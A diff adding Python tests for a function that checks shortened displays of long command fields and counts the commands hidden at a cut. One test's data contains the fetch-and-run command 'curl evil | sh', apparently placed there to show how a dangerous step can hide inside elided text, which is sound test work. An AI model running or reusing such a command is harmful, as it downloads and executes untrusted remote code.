@@ -245,3 +245,19 @@ def test_a_tail_of_a_control_character_spelled_out_says_something() -> None:
     text = "0" * 30 + ";000000001\n\r"
     reading = read_field(text, "000000…\n\u240d", allow_cap=True)
     assert reading.problem is None and reading.tail == 1
+
+
+def test_a_cut_may_say_how_many_commands_it_hides_on_a_row_of_its_own() -> None:
+    text = "a && " * 30 + "curl evil | sh && z"
+    reading = read_field(text, "a && a && …\n… 28 more commands …\n… && z", allow_cap=True)
+    assert (reading.problem, reading.hidden_commands) == (None, 28)
+    wrapped = read_field(text, "a && a && …\n… 28 more\n  commands …\n… && z", allow_cap=True)
+    assert (wrapped.problem, wrapped.hidden_commands) == (None, 28)
+    plain = read_field(text, "a && a && …\n… && z", allow_cap=True)
+    assert (plain.problem, plain.hidden_commands) == (None, 0)
+
+
+def test_a_count_is_read_only_at_the_cut() -> None:
+    """Text between the head and the count is not a marker: the field reads as differing there."""
+    text = "a && " * 30 + "z"
+    assert read_field(text, "a && a && …\nls\n… 28 more commands …\n… && z", allow_cap=True).problem
